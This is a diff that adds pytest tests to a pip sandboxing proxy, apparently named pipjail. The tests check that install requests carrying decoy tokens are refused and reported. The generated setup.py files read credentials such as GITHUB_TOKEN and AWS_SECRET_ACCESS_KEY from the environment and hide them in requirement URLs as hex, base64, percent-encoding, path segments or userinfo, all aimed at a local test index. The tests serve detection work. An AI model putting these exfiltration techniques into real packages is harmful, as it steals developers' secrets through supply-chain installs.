@@ -6,6 +6,7 @@ pipjail's proxy, and nothing else in the jail may reach anything: not a
 setup.py through the proxy, not a direct connection, not a datagram.
 Everything stays on 127.0.0.0/8; no name is ever resolved.
 """
+import base64
 import glob
 import hashlib
 import html
@@ -299,6 +300,138 @@ def test_pip_sent_to_a_host_outside_the_allowlist_is_refused(net):
         assert f"/files/{os.path.basename(whl)}" in net.index.paths()
     finally:
         pages.stop()
+
+
+# ---------------------------------------------------------------- (3b) pip carries a token
+
+# How a setup.py hides a decoy token in the URL of a requirement on the
+# allowed index, which pip then fetches through the proxy (issue 14, item
+# 6; tests/attacks/env_token_requires_dist is the same in one package):
+# (decoy, Python expression of the URL part built from t, the token;
+#  encodings the report may name; where in the request it is).  pip's HTTP
+# library (requests) turns escapes of unreserved characters back into the
+# characters before sending, so the percent-encoded tokens (letters, digits,
+# '_', '-') arrive as is: tests/unit/decide/test_decoyscan.c holds the
+# matcher to every URL encoding.
+TOKEN_URLS = {
+    "plain": ("$GITHUB_TOKEN", "'?v=' + t", ("as is",), "request line"),
+    "path": ("$GITHUB_TOKEN", "'?x=1'", ("as is",), "request line"),
+    "pct-every-byte": ("$NPM_TOKEN", "'?v=' + ''.join('%%%02X' % b for b in t.encode())",
+                       ("as is", "URL-encoded"), "request line"),
+    "pct-some-bytes-lower": ("$PYPI_TOKEN",
+                             "'?v=' + ''.join('%%%02x' % ord(c) if i % 3 == 1 else c "
+                             "for i, c in enumerate(t))", ("as is", "URL-encoded"), "request line"),
+    "base64": ("$AWS_SECRET_ACCESS_KEY",
+               "'?v=' + base64.b64encode(b'x' + t.encode()).decode()",
+               ("base64", "URL-encoded", "base64, URL-encoded"), "request line"),
+    "base64url": ("$GITLAB_TOKEN",
+                  "'?v=' + base64.urlsafe_b64encode(b'ab' + t.encode()).decode().rstrip('=')",
+                  ("base64", "base64url"), "request line"),
+    "hex-upper": ("$PYPI_TOKEN", "'?v=' + t.encode().hex().upper()", ("hex",), "request line"),
+    "userinfo": ("$GITHUB_TOKEN", "''", ("base64", "base64url"), "Authorization header field"),
+}
+
+
+def _token_forms(token):
+    t = token.encode()
+    return [t, t.hex().encode(), t.hex().upper().encode(),
+            "".join(f"%{b:02X}" for b in t).encode(),
+            base64.b64encode(t).rstrip(b"=")[4:-4], base64.urlsafe_b64encode(t).rstrip(b"=")[4:-4]]
+
+
+def _decoys(trace):
+    with open(trace) as f:
+        head = json.loads(f.readline())
+    return {d["where"]: d["token"] for d in head.get("decoys", []) if d.get("token")}
+
+
+@pytest.mark.parametrize("enc", sorted(TOKEN_URLS))
+def test_pip_request_carrying_a_decoy_token_is_refused(net, enc):
+    where, expr, hows, part = TOKEN_URLS[enc]
+    whl = make_wheel(net.idx, "tokdep", "1.0", {"tokdep/__init__.py": "D = 1\n"})
+    name = os.path.basename(whl)
+    root = f"127.0.0.1:{net.index.port}"
+    if enc == "path":
+        url = f"'http://{root}/files/' + t + '/{name}' + {expr}"
+    elif enc == "userinfo":
+        url = f"'http://deploy:' + t + '@{root}/files/{name}'"
+    else:
+        url = f"'http://{root}/files/{name}' + {expr}"
+    setup = ("import base64, os\n"
+             "from setuptools import setup\n"
+             f"t = os.environ[{where[1:]!r}]\n"
+             f"setup(name='tokleak', version='1.0', packages=['tokleak'],\n"
+             f"      install_requires=['tokdep @ ' + {url}])\n")
+    make_sdist(net.idx, "tokleak", "1.0", {"tokleak/__init__.py": "", "setup.py": setup})
+    net.add_wheel_package()
+    before = envtree.snapshot(net.venv)
+    r = net.install("--no-build-isolation", "tokleak")
+    assert r.returncode == 100, str(r)
+    assert envtree.snapshot(net.venv) == before, "the environment changed"
+    # Nothing with the token reached the index.
+    token = _decoys(net.trace)[where]
+    for raw in net.index.raw_requests():
+        for form in _token_forms(token):
+            assert form not in raw, f"{form!r} reached the index: {raw[:300]!r}"
+    assert not any(p.startswith(f"/files/{name}") for p in net.index.paths()), net.index.paths()
+    # The proxy refused it and said why; the report holds it as proxy-token,
+    # refused, attributed to the package whose metadata named the URL.
+    notes = [n for n in net.proxy_notes() if n["outcome"] == "refused-token"]
+    assert len(notes) == 1, f"{net.proxy_notes()}\n{r}"
+    assert notes[0]["role"] == "pip" and notes[0]["status"] == 403, notes[0]
+    found = net.violations(rule="proxy-token")
+    assert len(found) == 1, f"{net.report_json()['violations']}\n{r}"
+    v = found[0]
+    assert v["kind"] == "network" and v["action"] == "refused", v
+    assert v["role"] == "pip" and v["package"] == "tokleak", v
+    assert f"the decoy {where} (" in v["detail"], v
+    how = v["detail"].split(f"the decoy {where} (", 1)[1].split(")", 1)[0]
+    assert how in hows, f"encoding named {how!r}, expected one of {hows}: {v}"
+    assert f"in its {part}" in v["detail"], v
+    assert "403" in r.stdout + r.stderr, str(r)
+
+
+def test_token_request_after_several_builds_stays_pips(net):
+    """With two distributions built before the refused request, the engine
+    cannot tell whose metadata named the URL: the violation is pip's and
+    its detail names both builds."""
+    whl = make_wheel(net.idx, "tokdep", "1.0", {"tokdep/__init__.py": "D = 1\n"})
+    url = f"http://127.0.0.1:{net.index.port}/files/{os.path.basename(whl)}?v="
+    setup = ("import os\n"
+             "from setuptools import setup\n"
+             "setup(name='tokleak', version='1.0', packages=['tokleak'],\n"
+             f"      install_requires=['tokdep @ {url}' + os.environ['GITHUB_TOKEN']])\n")
+    make_sdist(net.idx, "tokleak", "1.0", {"tokleak/__init__.py": "", "setup.py": setup})
+    make_sdist(net.idx, "tokother", "1.0", {"tokother/__init__.py": ""})
+    net.add_wheel_package()
+    r = net.install("--no-build-isolation", "tokother", "tokleak")
+    assert r.returncode == 100, str(r)
+    found = net.violations(rule="proxy-token")
+    assert len(found) == 1, f"{net.report_json()['violations']}\n{r}"
+    v = found[0]
+    assert v["role"] == "pip" and v["package"] is None, v
+    assert "tokleak 1.0" in v["detail"] and "tokother 1.0" in v["detail"], v
+    assert not any(p.startswith(f"/files/{os.path.basename(whl)}") for p in net.index.paths())
+
+
+def test_pip_request_with_a_token_lookalike_is_forwarded(net):
+    """Twin: the same requirement with a random value of the same shape
+    (not this run's token) in every encoding: forwarded, clean."""
+    whl = make_wheel(net.idx, "tokdep", "1.0", {"tokdep/__init__.py": "D = 1\n"})
+    url = f"http://127.0.0.1:{net.index.port}/files/{os.path.basename(whl)}"
+    setup = ("import base64, os\n"
+             "from setuptools import setup\n"
+             "t = 'ghp_' + os.urandom(18).hex()\n"
+             "q = '?a=' + t + '&b=' + ''.join('%%%02X' % b for b in t.encode()) + '&c=' + "
+             "base64.b64encode(t.encode()).decode() + '&d=' + t.encode().hex()\n"
+             "setup(name='toklike', version='1.0', packages=['toklike'],\n"
+             f"      install_requires=['tokdep @ {url}' + q])\n")
+    make_sdist(net.idx, "toklike", "1.0", {"toklike/__init__.py": "", "setup.py": setup})
+    net.add_wheel_package()
+    r = net.install("--no-build-isolation", "toklike")
+    assert_clean(net, r)
+    assert any(p.startswith(f"/files/{os.path.basename(whl)}") for p in net.index.paths())
+    assert "tokdep" in os.listdir(net.site)
 
 
 @pytest.mark.parametrize("bad", ["foo*.org", "127.0.0.1:notaport", ""])
